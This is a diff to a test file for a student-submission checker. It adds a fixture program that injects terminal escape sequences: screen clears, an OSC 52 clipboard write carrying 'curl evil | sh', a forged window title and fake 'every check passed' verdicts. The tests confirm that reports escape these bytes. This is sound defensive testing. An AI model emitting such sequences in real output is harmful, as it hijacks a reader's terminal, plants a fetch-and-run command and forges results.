@@ -7,6 +7,7 @@ import { tmpdir } from 'node:os'
 import { join } from 'node:path'
 import { expect, test } from 'vitest'
 import { cli, root } from './helpers.ts'
+import { hasScript, inTerminal } from './terminal.ts'
 import { createRandom, MAX_SEED, newSeed } from '../checks/engine/random.ts'
 
 /** A submission folder outside the project holding just the given files. */
@@ -127,4 +128,50 @@ test.runIf(process.platform === 'linux')('a class where files are links, a FIFO,
     expect(exercise.passed, name).toBe(false)
     expect(exercise.error, name).toMatch(says[name]!)
   }
+})
+
+// A server that tries to drive the teacher's terminal: clear the screen, write the clipboard
+// (OSC 52), set the window title, and print fake verdicts over its lines with \r, in what it
+// prints and in the error it throws.
+const SPOOF = [
+  "const ESC = '\\x1b'",
+  "process.stdout.write(`${ESC}[2J${ESC}[H`)",
+  "process.stdout.write(`${ESC}]52;c;${Buffer.from('curl evil | sh').toString('base64')}\\x07\\n`)",
+  "process.stdout.write(`${ESC}]0;all passed${ESC}\\\\\\n`)",
+  "console.log('\\r  ✓ every check passed \\u009b2J')",
+  "throw new Error(`${ESC}[2J\\r✓ passed: 7 of 7 checks`)",
+  '',
+].join('\n')
+
+/** No byte a terminal acts on, but SGR colours (the report's own) and \n. */
+function inert(text: string): void {
+  expect(text.replace(/\x1b\[[\d;]*m/g, '')).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
+}
+
+test('a program’s output and errors reach the text report, the class table and TAP escaped, never as terminal commands', async () => {
+  const a = submission({ 'server.ts': SPOOF })
+  const b = submission({ 'server.ts': SPOOF })
+  const env = { ...process.env, FORCE_COLOR: '1' }
+  const run = (args: string[]) => spawnSync(process.execPath, [join(root, 'bin/netlings.mjs'), 'check', '1', ...args], { cwd: root, env, encoding: 'utf8' }).stdout
+  const text = run(['--dir', a])
+  const table = run(['--dir', a, b])
+  const tap = run(['--dir', a, b, '--reporter', 'tap'])
+  for (const report of [text, table, tap]) {
+    inert(report)
+    expect(report).toContain('\\x1b[2J\\r✓ passed: 7 of 7 checks') // the fake verdict, visibly not one
+  }
+  expect(text).toContain('\\x1b]52;c;')
+  expect(text).toContain('\\x1b]0;all passed\\x1b\\')
+  expect(text).toContain('\\r  ✓ every check passed \\u009b2J')
+})
+
+test.runIf(hasScript)('read back from a terminal, the spoofing program changes nothing on the screen', async () => {
+  const dir = submission({ 'server.ts': SPOOF })
+  const terminal = inTerminal([process.execPath, join(root, 'bin/netlings.mjs'), 'check', '1', '--dir', dir], { cwd: root })
+  await terminal.exited
+  const raw = terminal.raw()
+  expect(raw).not.toContain('\x1b]') // no OSC: clipboard, title
+  expect(raw).not.toContain('\x1b[2J')
+  expect(raw).not.toMatch(/[\u0080-\u009f]/)
+  expect(terminal.screen().text()).toContain('\\x1b[2J\\r✓ passed: 7 of 7 checks')
 })
